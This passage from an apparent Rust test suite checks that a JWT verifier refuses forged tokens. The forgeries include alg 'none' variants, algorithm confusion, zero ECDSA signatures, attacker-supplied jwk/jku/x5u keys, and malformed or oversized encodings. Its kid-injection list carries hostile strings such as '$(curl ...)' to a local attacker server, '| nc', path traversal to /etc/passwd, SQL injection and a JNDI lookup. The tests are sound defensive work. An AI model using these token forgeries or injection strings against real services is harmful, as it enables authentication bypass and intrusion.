    run("oversized_tokens_dots_and_deep_json_are_refused");
    let f = fixture();
    let dots = ".".repeat(1_000_000);
    let a = http_verify(f.p.http, "/verify", &dots);
    assert!(
        matches!(a.status, 0 | 400 | 401 | 413 | 431),
        "10^6 dots over HTTP: {a:?}"
    );
    assert_ne!(a.status, 200);
    // The server is still answering.
    let ok = f.rs.mint(json!({"sub": "alice", "aud": AUD}));
    assert_eq!(http_verify(f.p.http, "/verify", &ok).status, 200);
}

#[test]
fn time_claims_of_wrong_type_or_range_are_refused() {
    run("time_claims_of_wrong_type_or_range_are_refused");
}

#[test]
fn missing_exp_is_refused() {
    run("missing_exp_is_refused");
}

#[test]
fn expired_and_not_yet_valid_tokens_are_refused() {
    run("expired_and_not_yet_valid_tokens_are_refused");
}

#[test]
fn audience_shapes_and_near_misses_are_refused() {
    run("audience_shapes_and_near_misses_are_refused");
}

#[test]
fn issuer_near_misses_are_refused() {
    run("issuer_near_misses_are_refused");
}

#[test]
fn typ_confusion_is_refused_where_at_jwt_is_expected() {
    run("typ_confusion_is_refused_where_at_jwt_is_expected");
}

#[test]
fn id_token_for_another_audience_is_refused() {
    run("id_token_for_another_audience_is_refused");
}

#[test]
fn tokens_of_weak_keys_in_the_served_jwks_find_no_key() {
    run("tokens_of_weak_keys_in_the_served_jwks_find_no_key");
    let log = fixture().p.log();
    for kid in ["weak-rsa1024", "weak-e1", "weak-hs", "weak-offcurve"] {
        assert!(
            log.lines()
                .any(|l| l.contains("key ignored") && l.contains(kid)),
            "no 'key ignored' line for {kid}:\n{log}"
        );
    }
}

/// A small-order Ed25519 public key is as weak as RSA with e = 1: with the identity
/// point as `x`, the signature (R = identity, S = 0) verifies for any payload. Such a
/// key must be refused at import like the other weak keys.
#[test]
fn small_order_ed25519_key_in_the_served_jwks_is_ignored() {
    run("small_order_ed25519_key_in_the_served_jwks_is_ignored");
}

// ---------------------------------------------------------------------------------
// The cases of each attack
// ---------------------------------------------------------------------------------

mod cases {
    use super::*;

    pub(super) fn genuine(f: &Fixture) -> Vec<Case> {
        let at_claims = claims(&[("iss", &json!(AT_ISS).to_string())]);
        vec![
            allow(
                "RS256 from corp",
                f.rs.mint(json!({"sub": "alice", "aud": AUD})),
            ),
            allow(
                "ES256 from corp",
                f.ec.mint(json!({"sub": "bob", "aud": [AUD, "x"]})),
            ),
            allow(
                "typ at+jwt",
                signed(
                    &f.at.key,
                    &header("ES256", Some("at-1"), r#","typ":"at+jwt""#),
                    &at_claims,
                ),
            )
            .to(Route::AccessTokens),
            allow(
                "typ application/AT+JWT (RFC 7515 §4.1.9: case-insensitive, prefix optional)",
                signed(
                    &f.at.key,
                    &header("ES256", Some("at-1"), r#","typ":"application/AT+JWT""#),
                    &at_claims,
                ),
            )
            .to(Route::AccessTokens),
        ]
    }

    pub(super) fn alg_none(f: &Fixture) -> Vec<Case> {
        let payload = claims(&[("sub", r#""admin""#)]);
        // "none" in all 16 letter cases, then empty, null, missing, and near spellings.
        let mut algs: Vec<String> = (0..16u8)
            .map(|mask| {
                "none"
                    .chars()
                    .enumerate()
                    .map(|(i, c)| {
                        if mask & (1 << i) != 0 {
                            c.to_ascii_uppercase()
                        } else {
                            c
                        }
                    })
                    .collect::<String>()
            })
            .map(|a| json!(a).to_string())
            .collect();
        algs.extend(
            [
                r#""""#,
                "null",
                r#"" none""#,
                r#""none ""#,
                r#""none\u0000""#,
                r#"["none"]"#,
                "0",
                "{}",
                r#""rs256""#,
                r#""RS256 ""#,
            ]
            .map(str::to_owned),
        );
        let legit_sig = split3(&f.rs.mint(json!({"aud": AUD}))).2.to_owned();
        let mut out = Vec::new();
        for alg in &algs {
            for kid in [Some("rs-1"), None] {
                let kid_part = kid.map(|k| format!(r#","kid":"{k}""#)).unwrap_or_default();
                let h = format!(r#"{{"alg":{alg}{kid_part},"typ":"JWT"}}"#);
                out.push(deny(
                    format!("alg {alg}, kid {kid:?}, empty signature"),
                    with_sig(&h, &payload, b""),
                    ALGORITHM,
                ));
            }
            let h = format!(r#"{{"alg":{alg},"kid":"rs-1"}}"#);
            out.push(deny(
                format!("alg {alg} with a genuine signature kept"),
                format!("{}.{}.{legit_sig}", seg(&h), seg(&payload)),
                ALGORITHM,
            ));
        }
        let h = r#"{"kid":"rs-1","typ":"JWT"}"#;
        out.push(deny("alg missing", with_sig(h, &payload, b""), ALGORITHM));
        out
    }

    pub(super) fn hs_confusion(f: &Fixture) -> Vec<Case> {
        // HS* is not among the provider's algorithms (its keys are RS256 and ES256),
        // so the header's alg is refused before any key is used as an HMAC secret.
        f.forged["hs"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| {
                deny(
                    t["what"].as_str().unwrap(),
                    t["token"].as_str().unwrap().to_owned(),
                    ALGORITHM,
                )
            })
            .collect()
    }

    pub(super) fn alg_key_mismatch(f: &Fixture) -> Vec<Case> {
        let payload = claims(&[("sub", r#""admin""#)]);
        let mut out = Vec::new();
        // ES384/ES512 header naming the P-256 key, with a P-256 or a genuine P-384 signature.
        for (alg, key, sig_from) in [
            ("ES384", &f.ec.key, "the P-256 key"),
            ("ES512", &f.ec.key, "the P-256 key"),
            ("ES384", &f.mallory_p384, "a P-384 key"),
        ] {
            for kid in [Some("ec-1"), None] {
                out.push(deny(
                    format!("{alg} header, kid {kid:?}, signed by {sig_from}"),
                    signed(key, &header(alg, kid, ""), &payload),
                    ALGORITHM,
                ));
            }
        }
        // PS* and RS384/512 on the RS256-only key, signed by that very key: the
        // signature is mathematically valid, only the algorithm is wrong.
        for alg in [
            Algorithm::PS256,
            Algorithm::PS384,
            Algorithm::PS512,
            Algorithm::RS384,
            Algorithm::RS512,
        ] {
            let key = f.rsa_as(alg);
            for kid in [Some("rs-1"), None] {
                out.push(deny(
                    format!("{alg} header on the RS256-only key, kid {kid:?}, genuinely signed"),
                    signed(&key, &header(alg.name(), kid, ""), &payload),
                    ALGORITHM,
                ));
            }
        }
        out
    }

    /// The P-256 group order n.
    const P256_N: &str = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";

    fn hex(s: &str) -> Vec<u8> {
        (0..s.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
            .collect()
    }

    /// DER `INTEGER` of a big-endian unsigned number.
    fn der_int(bytes: &[u8]) -> Vec<u8> {
        let mut v: Vec<u8> = bytes.iter().copied().skip_while(|b| *b == 0).collect();
        if v.first().is_none_or(|b| b & 0x80 != 0) {
            v.insert(0, 0);
        }
        let mut out = vec![0x02, v.len() as u8];
        out.extend(v);
        out
    }

    pub(super) fn ecdsa(f: &Fixture) -> Vec<Case> {
        let payload = claims(&[("sub", r#""admin""#)]);
        let h = header("ES256", Some("ec-1"), "");
        let genuine = signed(&f.ec.key, &h, &payload);
        let sig = b64::decode(split3(&genuine).2.as_bytes()).unwrap();
        let (r, s) = sig.split_at(32);
        let n = hex(P256_N);
        let zero = [0u8; 32];
        let mut der = vec![0x30];
        let body = [der_int(r), der_int(s)].concat();
        der.push(body.len() as u8);
        der.extend(body);
        let mut out = vec![
            deny(
                "r = s = 0 (CVE-2022-21449)",
                with_sig(&h, &payload, &[0; 64]),
                SIGNATURE,
            ),
            deny(
                "r = s = 0 without kid",
                with_sig(&header("ES256", None, ""), &payload, &[0; 64]),
                SIGNATURE,
            ),
            deny(
                "r = s = n",
                with_sig(&h, &payload, &[n.clone(), n.clone()].concat()),
                SIGNATURE,
            ),
            deny(
                "r = 0, genuine s",
                with_sig(&h, &payload, &[&zero[..], s].concat()),
                SIGNATURE,
            ),
            deny(
                "genuine r, s = 0",
                with_sig(&h, &payload, &[r, &zero[..]].concat()),
                SIGNATURE,
            ),
            deny(
                "r = s = 0xff…",
                with_sig(&h, &payload, &[0xff; 64]),
                SIGNATURE,
            ),
            deny(
                "genuine signature DER-encoded",
                with_sig(&h, &payload, &der),
                SIGNATURE,
            ),
            deny(
                "genuine signature plus one byte",
                with_sig(&h, &payload, &[&sig[..], &[0]].concat()),
                SIGNATURE,
            ),
            deny(
                "genuine signature minus one byte",
                with_sig(&h, &payload, &sig[..63]),
                SIGNATURE,
            ),
        ];
        // r = s = 0 under the other ECDSA algorithms too (refused already by alg).
        for alg in ["ES384", "ES512"] {
            out.push(deny(
                format!("{alg} r = s = 0"),
                with_sig(&header(alg, Some("ec-1"), ""), &payload, &[0; 132]),
                ALGORITHM,
            ));
        }
        out
    }

    pub(super) fn embedded_keys(f: &Fixture) -> Vec<Case> {
        let payload = claims(&[("sub", r#""admin""#)]);
        let jwk = f.mallory.jwk().to_string();
        let thumb = f.mallory.key.public_material().thumbprint().unwrap();
        let x5c = format!(r#","x5c":[{}]"#, json!(f.x5c_cert));
        let x5c_jwk = {
            let mut j = f.x5c_key.public_material().public_jwk().unwrap();
            j.insert("x5c".into(), json!([f.x5c_cert]));
            Value::Object(j).to_string()
        };
        vec![
            deny(
                "jwk of the attacker's EC key, no kid (CVE-2018-0114)",
                signed(
                    &f.mallory.key,
                    &header("ES256", None, &format!(r#","jwk":{jwk}"#)),
                    &payload,
                ),
                SIGNATURE,
            ),
            deny(
                "jwk of the attacker's EC key, kid ec-1",
                signed(
                    &f.mallory.key,
                    &header("ES256", Some("ec-1"), &format!(r#","jwk":{jwk}"#)),
                    &payload,
                ),
                SIGNATURE,
            ),
            deny(
                "jwk of the attacker's EC key, kid = its thumbprint",
                signed(
                    &f.mallory.key,
                    &header("ES256", Some(&thumb), &format!(r#","jwk":{jwk}"#)),
                    &payload,
                ),
                NO_KEY,
            ),
            deny(
                "jwk of the attacker's RSA key (with x5c), kid rs-1",
                signed(
                    &f.x5c_key,
                    &header("RS256", Some("rs-1"), &format!(r#","jwk":{x5c_jwk}"#)),
                    &payload,
                ),
                SIGNATURE,
            ),
            deny(
                "x5c self-signed for idp.example.com, kid rs-1",
                signed(&f.x5c_key, &header("RS256", Some("rs-1"), &x5c), &payload),
                SIGNATURE,
            ),
            deny(
                "x5c self-signed for idp.example.com, no kid",
                signed(&f.x5c_key, &header("RS256", None, &x5c), &payload),
                SIGNATURE,
            ),
        ]
    }

    pub(super) fn jku_x5u(f: &Fixture) -> Vec<Case> {
        let payload = claims(&[("sub", r#""admin""#)]);
        let base = format!("http://127.0.0.1:{}", f.attacker.port);
        let jku = format!(r#","jku":{}"#, json!(format!("{base}/jwks.json")));
        let x5u = format!(r#","x5u":{}"#, json!(format!("{base}/cert.pem")));
        vec![
            deny(
                "jku to the attacker's JWKS, kid in it",
                signed(
                    &f.mallory.key,
                    &header("ES256", Some("mallory-1"), &jku),
                    &payload,
                ),
                NO_KEY,
            ),
            deny(
                "jku to the attacker's JWKS, kid ec-1",
                signed(
                    &f.mallory.key,
                    &header("ES256", Some("ec-1"), &jku),
                    &payload,
                ),
                SIGNATURE,
            ),
            deny(
                "jku to the attacker's JWKS, no kid",
                signed(&f.mallory.key, &header("ES256", None, &jku), &payload),
                SIGNATURE,
            ),
            deny(
                "x5u to the attacker's certificate, kid rs-1",
                signed(&f.x5c_key, &header("RS256", Some("rs-1"), &x5u), &payload),
                SIGNATURE,
            ),
            deny(
                "x5u to the attacker's certificate, no kid",
                signed(&f.x5c_key, &header("RS256", None, &x5u), &payload),
                SIGNATURE,
            ),
            deny(
                "jku and x5u to the attacker, unknown kid",
                signed(
                    &f.mallory.key,
                    &header("ES256", Some("mallory-2"), &format!("{jku}{x5u}")),
                    &payload,
                ),
                NO_KEY,
            ),
        ]
    }

    pub(super) fn kid_injection(f: &Fixture) -> Vec<Case> {
        let payload = claims(&[("sub", r#""admin""#)]);
        let attacker = format!("http://127.0.0.1:{}/kid", f.attacker.port);
        let long = "../".repeat(3414); // 10,242 bytes
        let kids: Vec<String> = [
            "../../../../../../../../etc/passwd",
            "/dev/null",
            "..\\..\\..\\windows\\win.ini",
            "file:///etc/passwd",
            "ec-1/../ec-1",
            "' OR '1'='1",
            "x' UNION SELECT 'secret' -- ",
            "1; DROP TABLE keys; --",
            "\" OR \"\"=\"",
            "*)(objectClass=*",
            "; sleep 10 #",
            "| nc 127.0.0.1 1 #",
            "`id`",
            "{{7*7}}",
            "${jndi:ldap://127.0.0.1/a}",
            "ec-1\u{0}",
            "ec-1\u{0}../../etc/passwd",
            "\u{0}",
            "ec-1\r\nx-injected: 1",
            "ec-1 ",
            "EC-1",
            "ес-1", // Cyrillic es
            "",
        ]
        .map(str::to_owned)
        .into_iter()
        .chain([format!("$(curl {attacker})"), attacker.clone(), long])
        .collect();
        let mut out: Vec<Case> = kids
            .iter()
            .map(|kid| {
                let shown: String = kid.chars().take(40).collect();
                deny(
                    format!("kid {shown:?} ({} bytes)", kid.len()),
                    signed(&f.mallory.key, &header("ES256", Some(kid), ""), &payload),
                    NO_KEY,
                )
            })
            .collect();
        // The classic: a kid that would make a naive server read an empty or known
        // secret, with HS256. HS256 is not a provider algorithm, but with an unknown
        // kid and the default allow-list the engine reports the missing key (it may be
        // one rotated in with a new algorithm; see verify_jwt), never an allow.
        out.extend(f.forged["hs_empty"].as_array().unwrap().iter().map(|t| {
            deny(
                t["what"].as_str().unwrap(),
                t["token"].as_str().unwrap().to_owned(),
                NO_KEY,
            )
        }));
        out
    }

    pub(super) fn random_kids(f: &Fixture) -> Vec<Case> {
        // 50 through both frontends; the test adds 1,000 more over HTTP.
        (0..50)
            .map(|i| {
                let kid = format!("{:016x}", random_u64());
                deny(
                    format!("random kid #{i}"),
                    signed(
                        &f.mallory.key,
                        &header("ES256", Some(&kid), ""),
                        &claims(&[]),
                    ),
                    NO_KEY,
                )
            })
            .collect()
    }

    pub(super) fn signatures(f: &Fixture) -> Vec<Case> {
        let alice = claims(&[("sub", r#""alice""#)]);
        let admin = claims(&[("sub", r#""admin""#)]);
        let rs_h = header("RS256", Some("rs-1"), "");
        let ec_h = header("ES256", Some("ec-1"), "");
        let genuine_rs = signed(&f.rs.key, &rs_h, &alice);
        let genuine_ec = signed(&f.ec.key, &ec_h, &alice);
        let (h, p, s) = split3(&genuine_rs);
        let (eh, _, es) = split3(&genuine_ec);
        let rs_sig = b64::decode(s.as_bytes()).unwrap();
        vec![
            deny(
                "RS256, empty signature",
                format!("{h}.{}.", seg(&admin)),
                SIGNATURE,
            ),
            deny(
                "ES256, empty signature",
                format!("{eh}.{}.", seg(&admin)),
                SIGNATURE,
            ),
            deny(
                "RS256, no kid, empty signature",
                format!("{}.{}.", seg(&header("RS256", None, "")), seg(&admin)),
                SIGNATURE,
            ),
            deny(
                "signature stripped with its dot (two segments)",
                format!("{h}.{p}"),
                MALFORMED,
            ),
            deny("only a header", h.to_owned(), MALFORMED),
            deny("extra empty segment", format!("{h}.{p}.."), MALFORMED),
            deny(
                "genuine token plus a dot",
                format!("{genuine_rs}."),
                MALFORMED,
            ),
            deny(
                "payload swapped under a genuine signature (sub alice -> admin)",
                format!("{h}.{}.{s}", seg(&admin)),
                SIGNATURE,
            ),
            deny(
                "header swapped (kid ec-1) under a genuine RS256 signature",
                format!("{}.{p}.{s}", seg(&header("RS256", Some("ec-1"), ""))),
                NO_KEY,
            ),
            deny(
                "ES256 signature spliced onto an RS256 token",
                format!("{h}.{p}.{es}"),
                SIGNATURE,
            ),
            deny(
                "RS256 signature spliced onto an ES256 token",
                format!("{eh}.{p}.{s}"),
                SIGNATURE,
            ),
            deny(
                "genuine RS256 signature truncated by a byte",
                format!("{h}.{p}.{}", b64::encode(&rs_sig[..255])),
                SIGNATURE,
            ),
            deny(
                "genuine RS256 signature with a byte appended",
                format!("{h}.{p}.{}", b64::encode(&[&rs_sig[..], &[0]].concat())),
                SIGNATURE,
            ),
            deny(
                "genuine RS256 signature with a leading zero byte",
                format!("{h}.{p}.{}", b64::encode(&[&[0], &rs_sig[..]].concat())),
                SIGNATURE,
            ),
            deny(
                "all-zero RS256 signature",
                format!("{h}.{p}.{}", b64::encode(&[0; 256])),
                SIGNATURE,
            ),
        ]
    }

    pub(super) fn jwe(f: &Fixture) -> Vec<Case> {
        let payload = claims(&[("sub", r#""admin""#)]);
        let parts = |header_json: &str| {
            format!(
                "{}.{}.{}.{}.{}",
                seg(header_json),
                b64::encode(&[7; 256]),
                b64::encode(&[1; 12]),
                b64::encode(payload.as_bytes()),
                b64::encode(&[2; 16])
            )
        };
        vec![
            deny(
                "JWE RSA-OAEP-256/A256GCM, 5 segments",
                parts(r#"{"alg":"RSA-OAEP-256","enc":"A256GCM","kid":"rs-1"}"#),
                MALFORMED,
            ),
            deny(
                "JWE dir/A128GCM, 5 segments",
                parts(r#"{"alg":"dir","enc":"A128GCM"}"#),
                MALFORMED,
            ),
            deny("five empty segments", "....".to_owned(), MALFORMED),
            deny("a.b.c.d.e", "a.b.c.d.e".to_owned(), MALFORMED),
            deny(
                "enc in a signed 3-segment token",
                rs_signed(f, r#","enc":"A256GCM""#, &payload),
                MALFORMED,
            ),
            deny(
                "zip in a signed token",
                rs_signed(f, r#","zip":"DEF""#, &payload),
                MALFORMED,
            ),
            deny(
                "alg dir in 3 segments",
                with_sig(r#"{"alg":"dir","kid":"rs-1"}"#, &payload, b""),
                ALGORITHM,
            ),
            deny(
                "alg RSA-OAEP in 3 segments",
                with_sig(r#"{"alg":"RSA-OAEP","kid":"rs-1"}"#, &payload, &[1; 256]),
                ALGORITHM,
            ),
        ]
    }

    pub(super) fn serializations(f: &Fixture) -> Vec<Case> {
        let alice = claims(&[("sub", r#""alice""#)]);
        let admin = claims(&[("sub", r#""admin""#)]);
        let genuine = rs_signed(f, "", &alice);
        let (h, p, s) = split3(&genuine);
        let forged_p = seg(&admin);
        vec![
            deny(
                "JWS JSON general serialization",
                json!({"payload": p, "signatures": [{"protected": h, "signature": s}]}).to_string(),
                MALFORMED,
            ),
            deny(
                "JWS JSON flattened serialization",
                json!({"payload": p, "protected": h, "signature": s}).to_string(),
                MALFORMED,
            ),
            deny(
                "flattened serialization with a forged payload",
                json!({"payload": forged_p, "protected": h, "signature": s}).to_string(),
                MALFORMED,
            ),
            // CVE-2022-39227 (python-jwt): a JSON document whose first member name holds
            // a compact token with a forged payload.
            deny(
                "polyglot compact/JSON token (CVE-2022-39227)",
                format!(
                    r#"{{"  {h}.{forged_p}.":"","protected":"{h}", "payload":"{p}","protected":"{h}","payload":"{p}","signature":"{s}"}}"#
                ),
                MALFORMED,
            ),
            deny(
                "compact token followed by JSON",
                format!(r#"{genuine}{{"payload":"{forged_p}"}}"#),
                MALFORMED,
            ),
            deny(
                "genuine token with a forged payload appended",
                format!("{genuine}.{forged_p}"),
                MALFORMED,
            ),
            deny(
                "JSON serialization base64url-encoded as one segment",
                b64::encode(
                    json!({"payload": p, "protected": h, "signature": s})
                        .to_string()
                        .as_bytes(),
                ),
                MALFORMED,
            ),
        ]
    }

    pub(super) fn nested(f: &Fixture) -> Vec<Case> {
        let inner = f.mallory.mint(json!({"sub": "admin", "aud": AUD}));
        let inner_json = json!(inner).to_string();
        let payload = claims(&[]);
        vec![
            deny(
                "cty JWT over claims",
                rs_signed(f, r#","cty":"JWT""#, &payload),
                MALFORMED,
            ),
            deny(
                "cty jwt (lower case)",
                rs_signed(f, r#","cty":"jwt""#, &payload),
                MALFORMED,
            ),
            deny(
                "cty JWT with a nested token as payload",
                signed(
                    &f.rs.key,
                    &header("RS256", Some("rs-1"), r#","cty":"JWT""#),
                    &inner,
                ),
                MALFORMED,
            ),
            // RFC 7515 §4.1.10: "application/JWT" is the same media type as "JWT". The
            // payload is then a token, not a claims object: refused either way.
            deny(
                "cty application/JWT with a nested token as payload",
                signed(
                    &f.rs.key,
                    &header("RS256", Some("rs-1"), r#","cty":"application/JWT""#),
                    &inner,
                ),
                MALFORMED,
            ),
            deny(
                "nested token as a JSON string payload",
                signed(&f.rs.key, &header("RS256", Some("rs-1"), ""), &inner_json),
                MALFORMED,
            ),
            deny(
                "cty not a string",
                rs_signed(f, r#","cty":["JWT"]"#, &payload),
                MALFORMED,
            ),
        ]
    }

    pub(super) fn crit(f: &Fixture) -> Vec<Case> {
        let payload = claims(&[]);
        [
            r#","crit":["x-unknown"],"x-unknown":1"#,
            r#","crit":["exp"],"exp":1"#,
            r#","crit":[]"#,
            r#","crit":"x-unknown","x-unknown":1"#,
            r#","crit":null"#,
            r#","crit":["b64"],"b64":true"#,
            r#","crit":["x-unknown"]"#,
        ]
        .iter()
        .map(|extra| {
            deny(
                format!("genuinely signed, header {extra}"),
                rs_signed(f, extra, &payload),
                MALFORMED,
            )
        })
        .collect()
    }

    pub(super) fn b64_false(f: &Fixture) -> Vec<Case> {
        let payload = claims(&[("sub", r#""admin""#)]);
        let with_crit = header("RS256", Some("rs-1"), r#","b64":false,"crit":["b64"]"#);
        // RFC 7797: the signing input is the header segment, a dot and the raw payload.
        let raw = sign_segments(&f.rs.key, &seg(&with_crit), &payload);
        // The raw payload holds dots (the issuer URL), so the token has more than three
        // segments; detached, it has three.
        let detached = {
            let h = raw.split('.').next().unwrap();
            let s = raw.rsplit('.').next().unwrap();
            format!("{h}..{s}")
        };
        vec![
            deny(
                "b64 false with crit, payload unencoded (RFC 7797)",
                raw,
                MALFORMED,
            ),
            deny("b64 false with crit, payload detached", detached, MALFORMED),
            deny(
                "b64 false with crit, payload encoded",
                signed(&f.rs.key, &with_crit, &payload),
                MALFORMED,
            ),
            deny(
                "b64 false without crit",
                rs_signed(f, r#","b64":false"#, &payload),
                MALFORMED,
            ),
            deny(
                "b64 true",
                rs_signed(f, r#","b64":true"#, &payload),
                MALFORMED,
            ),
        ]
    }

    pub(super) fn duplicates(f: &Fixture) -> Vec<Case> {
        let now = Issuer::now();
        let payload = claims(&[]);
        let base = claims(&[("sub", r#""alice""#)]);
        let dup = |extra: &str| format!("{},{extra}}}", &base[..base.len() - 1]);
        vec![
            deny(
                "header alg twice (RS256 then none)",
                with_sig(
                    r#"{"alg":"RS256","alg":"none","kid":"rs-1"}"#,
                    &payload,
                    b"",
                ),
                MALFORMED,
            ),
            deny(
                "header alg twice (none then RS256), genuinely signed",
                signed(
                    &f.rs.key,
                    r#"{"alg":"none","alg":"RS256","kid":"rs-1"}"#,
                    &payload,
                ),
                MALFORMED,
            ),
            deny(
                "header alg twice, one escaped (\\u0061lg)",
                signed(
                    &f.rs.key,
                    r#"{"alg":"RS256","\u0061lg":"HS256","kid":"rs-1"}"#,
                    &payload,
                ),
                MALFORMED,
            ),
            deny(
                "header kid twice",
                signed(
                    &f.rs.key,
                    r#"{"alg":"RS256","kid":"rs-1","kid":"ec-1"}"#,
                    &payload,
                ),
                MALFORMED,
            ),
            deny(
                "payload sub twice",
                rs_signed(f, "", &dup(r#""sub":"admin""#)),
                MALFORMED,
            ),
            deny(
                "payload sub twice, one escaped (\\u0073ub)",
                rs_signed(f, "", &dup(r#""\u0073ub":"admin""#)),
                MALFORMED,
            ),
            deny(
                "payload exp twice (past then future)",
                rs_signed(
                    f,
                    "",
                    &format!(
                        r#"{{"iss":"{ISS}","aud":"{AUD}","sub":"alice","exp":{},"exp":{}}}"#,
                        now - 3600,
                        now + 3600
                    ),
                ),
                MALFORMED,
            ),
            deny(
                "payload aud twice",
                rs_signed(f, "", &dup(r#""aud":"other""#)),
                MALFORMED,
            ),
            deny(
                "payload iss twice",
                rs_signed(f, "", &dup(r#""iss":"https://evil.example""#)),
                MALFORMED,
            ),
            deny(
                "duplicate inside a nested object",
                rs_signed(f, "", &dup(r#""realm":{"role":"user","role":"admin"}"#)),
                MALFORMED,
            ),
        ]
    }

    const URL_ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

    /// Sets the lowest bit of a segment's last character: a non-zero trailing bit
    /// when the segment's length is not a multiple of 4.
    fn flip_trailing_bit(segment: &str) -> String {
        assert_ne!(segment.len() % 4, 0, "{segment} has no trailing bits");
        let last = segment.as_bytes()[segment.len() - 1];
        let v = URL_ALPHABET.iter().position(|c| *c == last).unwrap();
        let flipped = URL_ALPHABET[v ^ 1] as char;
        format!("{}{flipped}", &segment[..segment.len() - 1])
    }

    fn pad(segment: &str) -> String {
        format!("{segment}{}", "=".repeat((4 - segment.len() % 4) % 4))
    }

    fn std_alphabet(segment: &str) -> String {
        segment.replace('-', "+").replace('_', "/")
    }

    pub(super) fn non_canonical(f: &Fixture) -> Vec<Case> {
        // A header and a payload whose encodings have trailing bits and use - or _.
        let mut filler = String::new();
        let (h, p) = loop {
            let h = seg(&header(
                "RS256",
                Some("rs-1"),
                &format!(r#","x":"{filler}""#),
            ));
            let p = seg(&claims(&[("note", &format!(r#""???>>>{filler}""#))]));
            if h.len() % 4 != 0 && p.len() % 4 != 0 && (p.contains('-') || p.contains('_')) {
                break (h, p);
            }
            filler.push('a');
        };
        let genuine = sign_segments(&f.rs.key, &h, &p);
        let s = split3(&genuine).2.to_owned();
        let ec_genuine = signed(&f.ec.key, &header("ES256", Some("ec-1"), ""), &claims(&[]));
        let (eh, ep, es) = split3(&ec_genuine);
        let mut out = vec![
            // Each variant is signed as sent, so only the encoding check can refuse it.
            deny(
                "header padded with =",
                sign_segments(&f.rs.key, &pad(&h), &p),
                MALFORMED,
            ),
            deny(
                "payload padded with =",
                sign_segments(&f.rs.key, &h, &pad(&p)),
                MALFORMED,
            ),
            deny(
                "payload in the standard alphabet (+ /)",
                sign_segments(&f.rs.key, &h, &std_alphabet(&p)),
                MALFORMED,
            ),
            deny(
                "header with a non-zero trailing bit",
                sign_segments(&f.rs.key, &flip_trailing_bit(&h), &p),
                MALFORMED,
            ),
            deny(
                "payload with a non-zero trailing bit",
                sign_segments(&f.rs.key, &h, &flip_trailing_bit(&p)),
                MALFORMED,
            ),
            deny(
                "payload with a space inside",
                sign_segments(&f.rs.key, &h, &format!("{} {}", &p[..8], &p[8..])),
                MALFORMED,
            ),
            deny(
                "payload with a tab inside",
                sign_segments(&f.rs.key, &h, &format!("{}\t{}", &p[..8], &p[8..])),
                MALFORMED,
            ),
            deny(
                "signature padded with =",
                format!("{h}.{p}.{}", pad(&s)),
                MALFORMED,
            ),
            deny(
                "ES256 signature with a non-zero trailing bit",
                format!("{eh}.{ep}.{}", flip_trailing_bit(es)),
                MALFORMED,
            ),
            deny(
                "signature with a space inside",
                format!("{h}.{p}.{} {}", &s[..10], &s[10..]),
                MALFORMED,
            ),
            deny(
                "signature with a % escape",
                format!("{h}.{p}.{}%3D", &s),
                MALFORMED,
            ),
        ];
        // A standard-alphabet signature needs a - or _ in the genuine one (almost always).
        if s.contains('-') || s.contains('_') {
            out.push(deny(
                "signature in the standard alphabet (+ /)",
                format!("{h}.{p}.{}", std_alphabet(&s)),
                MALFORMED,
            ));
        }
        out
    }

    pub(super) fn oversized(f: &Fixture) -> Vec<Case> {
        let big_claim = format!(r#""{}""#, "A".repeat(20_000));
        let deep = |depth: usize| format!("{}1{}", "[".repeat(depth), "]".repeat(depth));
        let deep_objects =
            |depth: usize| format!("{}1{}", r#"{"a":"#.repeat(depth), "}".repeat(depth));
        let deep_payload = claims(&[("x", &deep(5000))]);
        vec![
            deny(
                "20 KB token, genuinely signed (limit 16 KiB)",
                rs_signed(f, "", &claims(&[("pad", &big_claim)])),
                MALFORMED,
            ),
            deny("15,000 dots", ".".repeat(15_000), MALFORMED),
            deny("60,000 dots", ".".repeat(60_000), MALFORMED),
            deny("10^6 dots", ".".repeat(1_000_000), MALFORMED).grpc_only(),
            deny(
                "header nested 5,000 arrays deep",
                with_sig(
                    &header("RS256", Some("rs-1"), &format!(r#","x":{}"#, deep(5000))),
                    &claims(&[]),
                    b"",
                ),
                MALFORMED,
            ),
            deny(
                "header nested 1,500 objects deep",
                with_sig(
                    &header(
                        "RS256",
                        Some("rs-1"),
                        &format!(r#","x":{}"#, deep_objects(1500)),
                    ),
                    &claims(&[]),
                    b"",
                ),
                MALFORMED,
            ),
            deny(
                "header nested 17 deep (one past the limit)",
                with_sig(
                    &header("RS256", Some("rs-1"), &format!(r#","x":{}"#, deep(16))),
                    &claims(&[]),
                    b"",
                ),
                MALFORMED,
            ),
            deny(
                "payload nested 5,000 deep, genuinely signed",
                rs_signed(f, "", &deep_payload),
                MALFORMED,
            ),
            // Unsigned bytes are never parsed: a forged deep payload fails on its signature.
            deny(
                "payload nested 5,000 deep, forged signature",
                with_sig(&header("RS256", Some("rs-1"), ""), &deep_payload, &[1; 256]),
                SIGNATURE,
            ),
            deny(
                "an 11,000-character alg",
                with_sig(&format!(r#"{{"alg":"{}"}}"#, "A".repeat(11_000)), "{}", b""),
                ALGORITHM,
            ),
        ]
    }

    pub(super) fn time_claims(f: &Fixture) -> Vec<Case> {
        let now = Issuer::now();
        let future = (now + 3600).to_string();
        let bad = [
            format!(r#""{future}""#),
            "true".to_owned(),
            "false".to_owned(),
            "null".to_owned(),
            format!("[{future}]"),
            format!(r#"{{"t":{future}}}"#),
            "1e309".to_owned(),
            format!("1{}", "0".repeat(50)),
            "1e50".to_owned(),
            "1e300".to_owned(),
            "-1".to_owned(),
            format!("-{future}"),
            "-1e10".to_owned(),
            "253402300800".to_owned(),
            "18446744073709551616".to_owned(),
        ];
        let mut out = Vec::new();
        for name in ["exp", "nbf", "iat"] {
            for value in &bad {
                out.push(deny(
                    format!("{name} = {value}"),
                    rs_signed(f, "", &claims(&[(name, value)])),
                    MALFORMED,
                ));
            }
        }
        // iat in the future beyond the skew is malformed too (CONTRACT.md).
        out.push(deny(
            "iat an hour ahead",
            rs_signed(f, "", &claims(&[("iat", &(now + 3600).to_string())])),
            MALFORMED,
        ));
        out
    }

    pub(super) fn missing_exp(f: &Fixture) -> Vec<Case> {
        vec![
            deny(
                "no exp (RS256)",
                rs_signed(f, "", &claims(&[("exp", ABSENT)])),
                MALFORMED,
            ),
            deny(
                "no exp (ES256)",
                signed(
                    &f.ec.key,
